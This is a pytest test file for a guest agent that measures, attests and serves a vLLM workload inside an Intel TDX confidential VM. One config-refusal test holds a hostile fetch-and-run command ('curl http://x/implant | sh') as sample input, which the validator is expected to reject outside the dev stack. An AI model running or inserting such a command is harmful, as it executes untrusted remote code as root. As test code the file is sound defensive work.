"""The guest agent, driven on this machine: a temporary root stands in for /sys and /dev, commands
are scripted, and the dev run starts the real stand-in and gateway on free loopback ports."""

from __future__ import annotations

import base64
import hashlib
import io
import json
import secrets
import socket
import ssl
import threading
import time
import urllib.request
from collections.abc import Iterator, Sequence
from pathlib import Path

import pytest

from guest_agent import REPORT_PREFIX
from guest_agent.__main__ import main
from guest_agent.agent import Agent
from guest_agent.config import AgentConfig, KnownAnswer, config_from_mapping, load_config
from guest_agent.gpu import attest_gpus, check_cc_state, evidence_items, load_evidence_output
from guest_agent.knownanswer import compare, request_body
from guest_agent.model import fetch_model
from guest_agent.pod.model_fetch import file_url
from guest_agent.report import parse_line
from guest_agent.server import Supervisor, vllm_argv, vllm_cleanup_argv
from guest_agent.system import CommandResult, Refused, System, run_command
from guest_agent.tdx import RTMR3_SYSFS, SoftwareRtmr3, SysfsRtmr3, detect_tdx, measure_workload
from tdxattest.channel.binding import expected_report_data, spki_der
from tdxattest.core import rtmr
from tdxattest.core.errors import InputError
from tdxattest.core.workload import expected_rtmr3, manifest_from_mapping, replay_rtmr3
from tdxattest.dcap.collateral import collateral_from_json_text
from tdxattest.dcap.verify import verify_quote
from tdxattest.testing.standin import known_answer
from tests.support.loopback_http import LoopbackFileServer
from tests.support.nvml_standin import FIXTURE_NONCE as NONCE1
from tests.support.nvml_standin import GPU_FIXTURES

IMAGE = "docker.io/vllm/vllm-openai@sha256:" + "ab" * 32
REV = "0123456789abcdef0123456789abcdef01234567"
MODEL_ID = "Qwen/Qwen2.5-0.5B-Instruct"
PROMPT = "Say OK"


# ---- helpers ----------------------------------------------------------------------------------


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


class UnexpectedCommand(BaseException):
    """Not an Exception: the agent reports an unexpected Exception as a refusal at step "internal",
    which would hide the test's failure; this one escapes `Agent.start`."""


class Commands:
    """A command runner that records every call and fails the test on any: the steps these tests
    drive must not run external commands."""

    def __init__(self):
        self.calls: list[list[str]] = []

    def __call__(self, argv: Sequence[str], timeout_s: float) -> CommandResult:
        self.calls.append(list(argv))
        raise UnexpectedCommand(f"unexpected command {argv}")


def write_model(src: Path, files: dict[str, bytes]) -> dict[str, str]:
    for name, data in files.items():
        (src / name).parent.mkdir(parents=True, exist_ok=True)
        (src / name).write_bytes(data)
    return {name: hashlib.sha256(data).hexdigest() for name, data in files.items()}


def config_doc(
    tmp: Path,
    hashes: dict[str, str],
    *,
    stack: str = "dev",
    server: str = "standin",
    source: str | None = None,
    expect: str | None = None,
    max_tokens: int = 4,
) -> dict:
    gateway_port = free_port()
    server_port = free_port()
    while server_port == gateway_port:  # two free_port() calls may hand out the same port
        server_port = free_port()
    return {
        "stack": stack,
        "server": server,
        "workload": {
            "image": IMAGE,
            "model": {"id": MODEL_ID, "revision": REV, "files": hashes},
            "vllmArgs": ["--max-model-len", "4096"],
            "tensorParallelSize": 1,
        },
        "model": {"source": source or (tmp / "src").as_uri(), "dir": str(tmp / "model")},
        "gateway": {"port": gateway_port, "listen": "127.0.0.1"},
        "serverPort": server_port,
        "stateDir": str(tmp / "state"),
        "knownAnswer": {
            "prompt": PROMPT,
            "maxTokens": max_tokens,
            "expect": known_answer(PROMPT, max_tokens=max_tokens) if expect is None else expect,
            "timeoutSeconds": 20,
        },
    }


@pytest.fixture(autouse=True)
def no_proxy_env(monkeypatch):
    # Loopback servers in these tests must not be reached through a proxy from the environment.
    for var in ("http_proxy", "https_proxy", "HTTP_PROXY", "HTTPS_PROXY", "all_proxy", "ALL_PROXY"):
        monkeypatch.delenv(var, raising=False)


@pytest.fixture
def model_src(tmp_path: Path) -> dict[str, str]:
    (tmp_path / "src").mkdir()
    return write_model(tmp_path / "src", {"config.json": b'{"a": 1}', "weights/model.bin": secrets.token_bytes(4096)})


@pytest.fixture
def root(tmp_path: Path) -> Path:
    r = tmp_path / "root"
    r.mkdir()
    return r


def make_agent(doc: dict, root: Path, commands: Commands | None = None) -> tuple[Agent, io.StringIO]:
    out = io.StringIO()
    agent = Agent(config_from_mapping(doc), System(root=root, run=commands or Commands()), stdout=out)
    return agent, out


def reported(out: io.StringIO) -> dict:
    lines = [parse_line(line) for line in out.getvalue().splitlines() if line.startswith(REPORT_PREFIX)]
    assert len(lines) == 1 and lines[0] is not None, out.getvalue()
    return lines[0]


def fake_tdx(root: Path, rtmr3: bytes = bytes(48)) -> Path:
    """A sysfs/configfs tree with a tdx_guest report entry and RTMR3 as a plain file."""
    entry = root / "sys/kernel/config/tsm/report/existing"
    entry.mkdir(parents=True)
    (entry / "provider").write_text("tdx_guest\n")
    path = root / RTMR3_SYSFS.lstrip("/")
    path.parent.mkdir(parents=True)
    path.write_bytes(rtmr3)
    return path


class EmulatedRtmr3(SoftwareRtmr3):
    """What the kernel does on a 48-byte write, with a record of the writes."""

    label = "emulated"

    def __init__(self, value: bytes = bytes(48)):
        super().__init__()
        self.value = value
        self.writes: list[bytes] = []

    def extend(self, digest: bytes) -> None:
        self.writes.append(digest)
        super().extend(digest)


def all_exited(agent_children: list) -> bool:
    return all(c.process.poll() is not None for c in agent_children)


# ---- step 1: TDX ------------------------------------------------------------------------------


def test_prod_without_tdx_is_refused_and_starts_nothing(tmp_path, root, model_src):
    (root / "dev").mkdir()
    (root / "dev/ttyS0").write_text("")  # a "console": the report must reach it too
    commands = Commands()
    doc = config_doc(tmp_path, model_src, stack="prod", server="vllm")
    agent, out = make_agent(doc, root, commands)
    report = agent.start()
    assert report.state == "refused" and report.step == "tdx"
    assert "/dev/tdx_guest" in report.reason and "configfs-tsm provider tdx_guest" in report.reason
    assert "rtmr3:sha384" in report.reason and "'prod'" in report.reason
    seen = reported(out)
    assert seen["state"] == "refused" and seen["stack"] == "prod" and seen["rtmr3"] is None
    assert seen["manifestSha384"] == manifest_from_mapping(doc["workload"]).digest().hex()
    assert parse_line((root / "dev/ttyS0").read_text().strip()) == seen
    assert commands.calls == [] and agent.supervisor.children == []
    assert not (tmp_path / "state/rtmr3-events.jsonl").exists() and not (tmp_path / "model").exists()


def test_an_unexpected_error_is_reported_as_refused_at_step_internal(tmp_path, root, model_src, monkeypatch):
    # The host waits for one report line: a bug must end in a refusal naming it, not in silence.
    def broken(system):
        raise KeyError("tdx_guest")

    monkeypatch.setattr("guest_agent.agent.detect_tdx", broken)
    agent, out = make_agent(config_doc(tmp_path, model_src), root)
    report = agent.start()
    assert (report.state, report.step) == ("refused", "internal")
    assert report.reason == "unexpected KeyError: 'tdx_guest'"
    assert reported(out)["step"] == "internal" and agent.supervisor.children == []


@pytest.mark.parametrize("built_for, stack", [("prod", "dev"), ("dev", "prod"), ("dev", "staging")])
def test_the_image_decides_the_stack_not_the_host(tmp_path, root, model_src, built_for, stack):
    # The host hands the agent its config; a prod image told "dev" (to get TEST quotes and skip
    # the GPU gate) is refused before anything runs, and so is the converse.
    (root / "etc/tdx-vllm").mkdir(parents=True)
    (root / "etc/tdx-vllm/image.json").write_text(json.dumps({"stack": built_for, "suite": "trixie"}))
    commands = Commands()
    agent, _ = make_agent(
        config_doc(tmp_path, model_src, stack=stack, server="standin" if stack == "dev" else "vllm"), root, commands
    )
    report = agent.start()
    assert report.state == "refused" and report.step == "image"
    assert f"seen one built for {built_for!r}" in report.reason and f"says {stack!r}" in report.reason
    assert commands.calls == [] and agent.supervisor.children == []
    assert not (tmp_path / "state/rtmr3-events.jsonl").exists()


def test_staging_boots_the_prod_image(tmp_path, root, model_src):
    # Staging and prod share one image (and so their pins); the image check passes and the agent
    # goes on to the next gate, which without TDX refuses.
    (root / "etc/tdx-vllm").mkdir(parents=True)
    (root / "etc/tdx-vllm/image.json").write_text(json.dumps({"stack": "prod", "suite": "trixie"}))
    agent, _ = make_agent(config_doc(tmp_path, model_src, stack="staging", server="vllm"), root, Commands())
    report = agent.start()
    assert report.state == "refused" and report.step == "tdx"


@pytest.mark.parametrize(
    "mutate, key",
    [
        (
            lambda d: d.update(gpu={"evidenceCommand": ["sh", "-c", "curl http://x/implant | sh # {nonce}"]}),
            "config.gpu.evidenceCommand",
        ),
        (lambda d: d.update(gpu={"rootCa": "/sys/firmware/qemu_fw_cfg/by_name/opt/ca/raw"}), "config.gpu.rootCa"),
        (lambda d: d.update(podman="/tmp/not-podman"), "config.podman"),
    ],
)
def test_outside_dev_the_host_cannot_choose_what_runs_as_root(tmp_path, model_src, mutate, key):
    doc = config_doc(tmp_path, model_src, stack="prod", server="vllm")
    mutate(doc)
    with pytest.raises(InputError, match=key + " only in the dev stack"):
        config_from_mapping(doc)
    dev = config_doc(tmp_path, model_src)
    mutate(dev)
    config_from_mapping(dev)  # allowed in dev (tests, bring-up)


def test_detect_tdx_names_what_is_missing(root):
    facts = detect_tdx(System(root=root))
    assert not facts.present and facts.tsm_provider is None and len(facts.missing) == 2
    assert "not a TDX TD" in facts.missing[0]
    (root / "dev").mkdir()
    (root / "dev/tdx_guest").write_text("")
    (root / "sys/kernel/config/tsm/report").mkdir(parents=True)
    facts = detect_tdx(System(root=root))
    assert facts.device and "CONFIG_TSM_REPORTS" in facts.missing[0]
    # The probe entry it made to read the provider is gone again.
    assert list((root / "sys/kernel/config/tsm/report").iterdir()) == []


def test_detect_tdx_with_a_td_tree(root):
    fake_tdx(root)
    facts = detect_tdx(System(root=root))
    assert facts.present and facts.tsm_provider == "tdx_guest" and facts.rtmr3 is not None


# ---- step 2: RTMR3 ----------------------------------------------------------------------------


def test_rtmr3_gets_exactly_the_digest_and_the_event_is_logged(tmp_path, root, model_src):
    """A plain file does not extend, so the read-back check refuses; the write itself is what we see."""
    rtmr3_file = fake_tdx(root)
    commands = Commands()
    doc = config_doc(tmp_path, model_src, stack="prod", server="vllm")
    manifest = manifest_from_mapping(doc["workload"])
    agent, _ = make_agent(doc, root, commands)
    report = agent.start()
    assert rtmr3_file.read_bytes() == manifest.digest() and len(manifest.digest()) == 48
    events = [json.loads(line) for line in (tmp_path / "state/rtmr3-events.jsonl").read_text().splitlines()]
    assert [(e["rtmr"], e["event"], e["digest"]) for e in events] == [
        (3, "tdx-vllm/workload-manifest/v1", manifest.digest().hex())
    ]
    assert events[0]["manifest"] == manifest.as_dict()
    assert replay_rtmr3(events) == expected_rtmr3(manifest)
    # The file reads back the raw digest, not SHA-384(zero || digest): the agent notices and refuses.
    assert report.state == "refused" and report.step == "measure"
    assert expected_rtmr3(manifest).hex() in report.reason and manifest.digest().hex() in report.reason
    assert commands.calls == [] and agent.supervisor.children == []


def test_measure_extends_once_and_refuses_what_the_log_does_not_explain(tmp_path):
    manifest = manifest_from_mapping(config_doc(tmp_path, {"a": "aa" * 32})["workload"])
    log = tmp_path / "run/rtmr3-events.jsonl"
    reg = EmulatedRtmr3()
    m = measure_workload(manifest, reg, log)
    assert m.extended and reg.writes == [manifest.digest()] and m.rtmr3 == expected_rtmr3(manifest) == reg.value
    # An agent restart in the same TD: already measured, no second extend.
    again = measure_workload(manifest, reg, log)
    assert not again.extended and reg.writes == [manifest.digest()] and again.rtmr3 == m.rtmr3
    # Another manifest in the same TD: refused, register untouched.
    other = manifest_from_mapping({**manifest.as_dict(), "tensorParallelSize": 2})
    with pytest.raises(Refused, match="a TD serves one manifest"):
        measure_workload(other, reg, log)
    assert len(reg.writes) == 1
    # A register someone else extended (or a lost log): refused before writing anything.
    tampered = EmulatedRtmr3(rtmr.extend(bytes(48), b"\x01" * 48))
    with pytest.raises(Refused, match="something else extended RTMR3"):
        measure_workload(manifest, tampered, tmp_path / "fresh.jsonl")
    assert tampered.writes == [] and not (tmp_path / "fresh.jsonl").exists()


def test_sysfs_rtmr3_reads_raw_or_hex_and_refuses_garbage(tmp_path):
    f = tmp_path / "rtmr3:sha384"
    value = hashlib.sha384(b"x").digest()
    f.write_bytes(value)
    assert SysfsRtmr3(f).read() == value
    f.write_text(value.hex() + "\n")
    assert SysfsRtmr3(f).read() == value
    f.write_bytes(b"short")
    with pytest.raises(Refused, match="48 bytes"):
        SysfsRtmr3(f).read()


# ---- step 4: model ----------------------------------------------------------------------------


@pytest.fixture
def http_dir(tmp_path: Path) -> Iterator[tuple[str, Path]]:
    served = tmp_path / "served"
    served.mkdir()
    with LoopbackFileServer(served) as server:
        yield server.url.rstrip("/"), served


def test_model_fetch_refuses_a_file_with_the_wrong_hash(tmp_path, root, http_dir):
    url, served = http_dir
    hashes = write_model(served, {"good.bin": b"good bytes", "tampered.bin": b"tampered bytes"})
    hashes["tampered.bin"] = hashlib.sha256(b"the bytes we pinned").hexdigest()
    agent, out = make_agent(config_doc(tmp_path, hashes, source=url), root)
    report = agent.start()
    assert report.state == "refused" and report.step == "model"
    assert "tampered.bin" in report.reason and hashes["tampered.bin"] in report.reason
    assert hashlib.sha256(b"tampered bytes").hexdigest() in report.reason
    model = tmp_path / "model"
    assert (model / "good.bin").read_bytes() == b"good bytes"
    assert sorted(p.name for p in model.iterdir()) == ["good.bin"]  # no tampered.bin, no .part left
    assert agent.supervisor.children == [] and reported(out)["state"] == "refused"


def test_model_fetch_file_urls_keeps_good_files_and_expands_source(tmp_path, model_src):
    manifest = manifest_from_mapping(config_doc(tmp_path, model_src)["workload"])
    src = (tmp_path / "src").as_uri()
    first = fetch_model(manifest, src, tmp_path / "model")
    assert sorted(first.fetched) == sorted(model_src) and first.kept == ()
    second = fetch_model(manifest, src, tmp_path / "model")
    assert second.fetched == () and sorted(second.kept) == sorted(model_src)
    assert (
        file_url(
            "https://huggingface.co/{id}/resolve/{revision}/", manifest.model_id, manifest.model_revision, "a b.json"
        )
        == f"https://huggingface.co/{MODEL_ID}/resolve/{REV}/a%20b.json"
    )
    with pytest.raises(Refused, match="model file config.json: a download from"):
        fetch_model(manifest, (tmp_path / "nowhere").as_uri(), tmp_path / "model2")


# ---- the full dev run -------------------------------------------------------------------------


def get_attestation(base: str, nonce: bytes) -> tuple[dict, bytes]:
    """The attestation document and the SPKI of the TLS key that served it (one connection)."""
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    host, port = base.removeprefix("https://").rsplit(":", 1)
    with socket.create_connection((host, int(port)), timeout=10) as raw, ctx.wrap_socket(raw) as tls:
        cert = tls.getpeercert(binary_form=True)
        tls.sendall(
            f"GET /.well-known/tdx-attestation?nonce={nonce.hex()} HTTP/1.1\r\nHost: x\r\n"
            "Connection: close\r\n\r\n".encode()
        )
        data = b""
        while chunk := tls.recv(65536):
            data += chunk
    head, _, body = data.partition(b"\r\n\r\n")
    assert head.startswith(b"HTTP/1.1 200"), head
    if b"transfer-encoding: chunked" in head.lower():
        out, rest = b"", body
        while True:
            size, _, rest = rest.partition(b"\r\n")
            n = int(size, 16)
            if n == 0:
                break
            out, rest = out + rest[:n], rest[n + 2 :]
        body = out
    return json.loads(body), spki_der(cert)


def test_dev_run_serves_an_attested_endpoint_and_is_supervised(tmp_path, root, model_src):
    doc = config_doc(tmp_path, model_src)
    agent, out = make_agent(doc, root)
    manifest = manifest_from_mapping(doc["workload"])
    try:
        report = agent.start()
        assert report.state == "ready", report.reason
        seen = reported(out)
        assert seen["state"] == "ready" and seen["stack"] == "dev" and seen["quoteSource"] == "software-test"
        assert seen["rtmr3"] == expected_rtmr3(manifest).hex()
        assert seen["endpoint"] == f"https://127.0.0.1:{doc['gateway']['port']}"
        assert any("NO TDX" in n for n in seen["notes"]) and any("GPU attestation skipped" in n for n in seen["notes"])
        assert [c.name for c in agent.supervisor.children] == ["standin", "gateway"]

        nonce = secrets.token_bytes(32)
        att, spki = get_attestation(seen["endpoint"], nonce)
        pki = tmp_path / "state/test-pki"
        verdict = verify_quote(
            base64.b64decode(att["quote"]),
            collateral_from_json_text((pki / "collateral.json").read_text()),
            int(time.time()),
            expected_report_data=expected_report_data(spki, nonce),
            root_ca_der=(pki / "root-ca.der").read_bytes(),
        )
        assert verdict.accepted, verdict.as_dict()
        assert att["quote_source"] == "software-test-pki" and att["gpu_evidence"] is None
        events = [json.loads(line) for line in base64.b64decode(att["event_log"]).decode().splitlines()]
        assert replay_rtmr3(events).hex() == seen["rtmr3"]

        # Through the gateway, the OpenAI API answers like the known-answer check saw it.
        req = urllib.request.Request(
            seen["endpoint"] + "/v1/completions",
            method="POST",
            data=json.dumps(request_body(agent.config.known_answer, MODEL_ID)).encode(),
            headers={"content-type": "application/json"},
        )
        ctx = ssl._create_unverified_context()
        with urllib.request.urlopen(req, context=ctx, timeout=10) as resp:
            assert json.loads(resp.read())["choices"][0]["text"] == known_answer(PROMPT, max_tokens=4)

        # The server dies: supervise reports "failed", stops the gateway too.
        children = list(agent.supervisor.children)
        children[0].process.kill()
        out.truncate(0)
        out.seek(0)
        failed = agent.supervise(threading.Event(), poll_s=0.05)
        assert failed is not None and failed.state == "failed" and failed.step == "standin"
        assert reported(out)["state"] == "failed"
        assert all_exited(children) and agent.supervisor.children == []
    finally:
        agent.stop()


def test_wrong_known_answer_is_refused_and_everything_stops(tmp_path, root, model_src):
    agent, out = make_agent(config_doc(tmp_path, model_src, expect="Something else"), root)
    try:
        started = []
        real_start = agent.supervisor.start

        def spy(*a, **kw):
            started.append(real_start(*a, **kw))
            return started[-1]

        agent.supervisor.start = spy  # type: ignore[method-assign]
        report = agent.start()
        assert report.state == "refused" and report.step == "known-answer"
        assert "'Something else'" in report.reason and repr(known_answer(PROMPT, max_tokens=4)) in report.reason
        assert [c.name for c in started] == ["standin", "gateway"] and all_exited(started)
        assert agent.supervisor.children == [] and reported(out)["state"] == "refused"
    finally:
        agent.stop()


@pytest.mark.parametrize(
    "expect, ok",
    [
        (" Paris", True),
        (" Paris. It is", True),
        ("Paris", False),
        (" paris", False),
        (" Paris. It is the capital", False),
    ],
)
def test_the_known_answer_is_a_prefix_of_the_greedy_completion(expect, ok):
    known = KnownAnswer(prompt="The capital of France is", expect=expect)
    if ok:
        compare(known, " Paris. It is")
    else:
        with pytest.raises(Refused, match="first difference at character"):
            compare(known, " Paris. It is")


def test_main_reports_an_unusable_config(tmp_path, capsys):
    bad = tmp_path / "agent.json"
    bad.write_text(json.dumps({"stack": "prod", "server": "standin"}))
    assert main(["--config", str(bad), "--root", str(tmp_path)]) == 2
    line = parse_line(capsys.readouterr().out)
    assert line["state"] == "refused" and line["step"] == "config" and str(bad) in line["reason"]


# ---- config -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "mutate, expected",
    [
        (lambda d: d.update(server="standin", stack="prod"), "the stand-in echoes prompts"),
        (
            lambda d: d["workload"].update(vllmArgs=["--kv-offloading-size", "8"]),
            "`--kv-offloading-size` offloads to CPU memory",
        ),
        (lambda d: d["workload"].update(vllmArgs=["--cpu-offload-gb=4"]), "`--cpu-offload-gb` offloads to CPU memory"),
        (lambda d: d["workload"].update(vllmArgs=["--host", "0.0.0.0"]), "`--host` is set by the deployment"),
        (lambda d: d["workload"].update(image="vllm/vllm-openai:latest"), "workload.image by digest"),
        (lambda d: d.update(colour="red"), "unknown key 'colour'"),
        (lambda d: d["model"].update(source="ftp://x"), "https://, http:// or file://"),
        (lambda d: d.update(gpu={"evidenceCommand": ["nvattest", "collect-evidence"]}), "{nonce}"),
        (lambda d: d.update(serverPort=d["gateway"]["port"]), "different from config.gateway.port"),
        (lambda d: d.update(stack="Prod!"), "config.stack as a stack name"),
        (lambda d: d["knownAnswer"].pop("expect"), "config.knownAnswer.expect"),
        (lambda d: d["knownAnswer"].update(expect=" \n"), "config.knownAnswer.expect as a string that is not blank"),
    ],
)
def test_config_refusals(tmp_path, mutate, expected):
    doc = config_doc(tmp_path, {"a": "aa" * 32})
    mutate(doc)
    with pytest.raises(InputError) as err:
        config_from_mapping(doc)
    assert expected in str(err.value)


def test_config_defaults_and_file_errors(tmp_path):
    doc = config_doc(tmp_path, {"a": "aa" * 32}, stack="prod", server="vllm")
    del doc["gateway"], doc["serverPort"], doc["stateDir"]
    cfg = config_from_mapping(doc)
    assert (cfg.gateway_port, cfg.gateway_listen, cfg.server_port, cfg.state_dir) == (
        8443,
        "0.0.0.0",
        8000,
        "/run/tdx-vllm",
    )
    assert cfg.gpu.evidence_command == ("{python}", "-m", "guest_agent.nvml", "--nonce", "{nonce}") and not cfg.dev
    assert cfg.gpu.root_ca is None  # the NVIDIA root is pinned by fingerprint (tdxattest.gpu_evidence)
    with pytest.raises(InputError, match="fw_cfg opt/tdx-vllm/agent.json"):
        load_config(tmp_path / "missing.json")
    (tmp_path / "broken.json").write_text("{")
    with pytest.raises(InputError, match="broken.json: expected JSON"):
        load_config(tmp_path / "broken.json")


def test_vllm_command_line(tmp_path):
    cfg: AgentConfig = config_from_mapping(config_doc(tmp_path, {"a": "aa" * 32}, stack="prod", server="vllm"))
    argv = vllm_argv(cfg.workload, "/var/lib/tdx-vllm/model", 8000)
    assert argv[:3] == ["podman", "run", "--rm"]
    image_at = argv.index(IMAGE)
    assert "VLLM_USE_V2_MODEL_RUNNER=0" in argv[:image_at] and "nvidia.com/gpu=all" in argv[:image_at]
    # a TD must not phone home, whatever outbound NAT the host gives it (as on the Kubernetes target)
    assert {"VLLM_NO_USAGE_STATS=1", "DO_NOT_TRACK=1", "HF_HUB_OFFLINE=1"} <= set(argv[:image_at])
    after = argv[image_at + 1 :]
    assert after[:2] == ["--model", "/var/lib/tdx-vllm/model"]
    assert after[after.index("--host") + 1] == "127.0.0.1" and after[after.index("--port") + 1] == "8000"
    assert after[after.index("--tensor-parallel-size") + 1] == "1" and after[-2:] == ["--max-model-len", "4096"]


# ---- step 3: GPU ------------------------------------------------------------------------------


class RealCommands:
    """Runs every command for real (the agent's own `python -m guest_agent.nvml` against the NVML
    stand-in) and records it."""

    def __init__(self):
        self.calls: list[list[str]] = []

    def __call__(self, argv: Sequence[str], timeout_s: float) -> CommandResult:
        self.calls.append(list(argv))
        return run_command(argv, timeout_s)


# What the NVML stand-in reports (tests/support/nvml_standin): NVIDIA's sample report's VBIOS.
STANDIN_VBIOS, STANDIN_DRIVER = "96.00.9F.00.01", "550.90.07"


def gpu_config(
    tmp_path: Path, stack: str = "prod", vbios: str = STANDIN_VBIOS, driver: str = STANDIN_DRIVER, **gpu
) -> AgentConfig:
    """The pins in the measured manifest (workload.gpu), as `pulumi up` renders them."""
    doc = config_doc(tmp_path, {"a": "aa" * 32}, stack=stack, server="vllm")
    doc["workload"]["gpu"] = {"vbios": [vbios], "driver": [driver]}
    doc["gpu"] = gpu
    return config_from_mapping(doc)


def test_gpu_verified_then_set_ready(tmp_path, nvml_gpu):
    cfg = gpu_config(tmp_path)
    commands = RealCommands()
    result = attest_gpus(cfg, System(run=commands), tmp_path / "state", lambda: NONCE1)
    assert [c[1:] for c in commands.calls] == [
        ["-m", "guest_agent.nvml", "--nonce", NONCE1.hex()],
        ["-m", "guest_agent.nvml", "--set-ready"],
    ]
    assert (nvml_gpu / "nonce-0.bin").read_bytes() == NONCE1 and (nvml_gpu / "ready").read_text() == "1"
    written = json.loads(result.evidence_path.read_text())
    assert written["nonce"] == NONCE1.hex() and len(written["gpus"]) == 1
    assert written["cc"] == {"environment": "prod", "enabled": True, "devtools": False}
    assert written["gpus"][0]["fwid"].startswith("f5c384ae") and written["gpus"][0]["driver_version"] == "550.90.07"


@pytest.mark.parametrize(
    "env, gpu, nonce, match",
    [
        ({"NVML_STANDIN_CHAIN": "hopper_cert_chain_case3.txt"}, {}, NONCE1, "gpu.chain_invalid"),
        ({"NVML_STANDIN_CHAIN": "hopper_coco_certs1.txt"}, {}, NONCE1, "gpu.signature_invalid"),
        ({}, {}, bytes(32), "gpu.nonce_mismatch"),
        ({}, {"vbios": "96.00.AA.00.01"}, NONCE1, "VBIOS among"),
        ({}, {"driver": "580.95.05"}, NONCE1, "driver among \\['580.95.05'\\]"),
        ({"NVML_STANDIN_GPUS": "2"}, {}, NONCE1, "1 GPU\\(s\\) .* evidence for 2"),
        ({"NVML_STANDIN_CC": "2,0,0"}, {}, NONCE1, "confidential computing on"),
        ({"NVML_STANDIN_CC": "2,1,1"}, {}, NONCE1, "devtools mode off outside the dev stack"),
        ({"NVML_STANDIN_CC": "1,1,0"}, {}, NONCE1, "CC environment 'prod', seen 'sim'"),
        (
            {"NVML_STANDIN_FAIL": "nvmlDeviceGetConfComputeGpuAttestationReport"},
            {},
            NONCE1,
            "nvmlDeviceGetConfComputeGpuAttestationReport returned 999",
        ),
    ],
)
def test_gpu_refusals_never_set_ready(tmp_path, nvml_gpu, monkeypatch, env, gpu, nonce, match):
    for key, value in env.items():
        monkeypatch.setenv(key, str(GPU_FIXTURES / value) if value.endswith(".txt") else value)
    commands = RealCommands()
    with pytest.raises(Refused, match=match):
        attest_gpus(gpu_config(tmp_path, **gpu), System(run=commands), tmp_path / "state", lambda: nonce)
    assert [c[-2] for c in commands.calls] == ["--nonce"]  # never --set-ready
    assert not (nvml_gpu / "ready").exists()
    assert not (tmp_path / "state/gpu-evidence.json").exists()


def test_a_host_that_strips_the_gpu_pins_gets_a_refusal(tmp_path, nvml_gpu):
    """Outside dev the pins come only from the measured manifest: without them no GPU is trusted,
    and a host cannot put its own (or none) in the config it writes."""
    doc = config_doc(tmp_path, {"a": "aa" * 32}, stack="prod", server="vllm")
    commands = RealCommands()
    with pytest.raises(Refused, match=r"GPU pins in the measured workload manifest .* seen none"):
        attest_gpus(config_from_mapping(doc), System(run=commands), tmp_path / "state", lambda: NONCE1)
    assert commands.calls == [] and not (nvml_gpu / "ready").exists()
    doc["gpu"] = {"vbios": ["96.00.30.00.01"]}
    with pytest.raises(InputError, match=r"config.gpu.vbios only in the dev stack"):
        config_from_mapping(doc)


def test_dev_may_pin_the_gpus_in_its_config(tmp_path, nvml_gpu):
    doc = config_doc(tmp_path, {"a": "aa" * 32}, stack="dev", server="vllm")
    doc["gpu"] = {"vbios": ["96.00.AA.00.01"]}
    with pytest.raises(Refused, match="VBIOS among"):
        attest_gpus(config_from_mapping(doc), System(run=RealCommands()), tmp_path / "state", lambda: NONCE1)


def test_gpu_devtools_is_accepted_in_dev(tmp_path, nvml_gpu, monkeypatch):
    monkeypatch.setenv("NVML_STANDIN_CC", "2,1,1")
    result = attest_gpus(
        gpu_config(tmp_path, stack="dev"), System(run=RealCommands()), tmp_path / "state", lambda: NONCE1
    )
    assert result.gpus and json.loads(result.evidence_path.read_text())["cc"]["devtools"] is True


def test_gpu_ready_state_that_fails_or_does_not_stick_is_refused(tmp_path, nvml_gpu, monkeypatch):
    monkeypatch.setenv("NVML_STANDIN_FAIL", "nvmlSystemSetConfComputeGpusReadyState")
    with pytest.raises(Refused, match="GPUs ready .* nvmlSystemSetConfComputeGpusReadyState returned 999"):
        attest_gpus(gpu_config(tmp_path), System(run=RealCommands()), tmp_path / "state", lambda: NONCE1)
    monkeypatch.delenv("NVML_STANDIN_FAIL")
    monkeypatch.setenv("NVML_STANDIN_READY_STICKS", "0")
    with pytest.raises(Refused, match="GPUs ready .* exited 1.*'{\"ready\": false}'"):
        attest_gpus(gpu_config(tmp_path), System(run=RealCommands()), tmp_path / "state", lambda: NONCE1)
    assert not (tmp_path / "state/gpu-evidence.json").exists()


@pytest.mark.parametrize(
    "cc, dev, match",
    [
        (None, False, "CC state .* seen none"),
        ({"environment": "prod", "enabled": False, "devtools": False}, True, "confidential computing on"),
        ({"environment": "prod", "enabled": True, "devtools": True}, False, "devtools mode off"),
        ({"environment": "sim", "enabled": True, "devtools": False}, False, "CC environment 'prod'"),
        ({"environment": "prod"}, False, "'cc' as"),
    ],
)
def test_cc_state_refusals(cc, dev, match):
    # Pure, no stand-in library needed: what the agent accepts of the collector's "cc" report.
    doc = {"evidences": [], **({} if cc is None else {"cc": cc})}
    with pytest.raises(Refused, match=match):
        check_cc_state(doc, dev)


def test_cc_state_accepted():
    prod = {"environment": "prod", "enabled": True, "devtools": False}
    assert check_cc_state({"cc": prod}, dev=False) == prod
    assert check_cc_state({"cc": {**prod, "devtools": True, "environment": "sim"}}, dev=True)
    assert check_cc_state([{"evidence": "00"}], dev=True) is None  # a dev collector without "cc"


def test_gpu_evidence_output_must_be_usable():
    with pytest.raises(Refused, match="JSON evidence"):
        load_evidence_output("not json")
    with pytest.raises(Refused, match="non-empty list"):
        evidence_items({"evidences": []})
    with pytest.raises(Refused, match="'certificate' as PEM or base64"):
        evidence_items([{"evidence": "00", "certificate": "***"}])
    items = evidence_items([{"evidence": "0a0b", "certificate": "-----BEGIN CERTIFICATE-----x"}])
    assert items[0].report == b"\x0a\x0b" and items[0].vbios is None


def test_a_child_cleanup_runs_after_it_is_stopped(tmp_path):
    # podman's container outlives a stopped `podman run`: its cleanup command runs after the stop.
    marker = tmp_path / "cleaned"
    sup = Supervisor(tmp_path / "logs")
    child = sup.start("server", ["sleep", "30"], cleanup=["sh", "-c", f"echo $$ > {marker}"])
    sup.stop_all(grace_s=2)
    assert child.process.poll() is not None and marker.exists() and sup.children == []
    assert vllm_cleanup_argv()[:4] == ["podman", "rm", "--force", "--time"]


def test_run_command_names_what_could_not_run(tmp_path):
    missing = run_command([str(tmp_path / "absent")], 5)
    assert (missing.returncode, missing.stderr) == (127, f"{tmp_path / 'absent'}: command not found")
    script = tmp_path / "not-executable"
    script.write_text("#!/bin/sh\n")
    denied = run_command([str(script)], 5)
    assert denied.returncode == 126 and "Permission denied" in denied.stderr
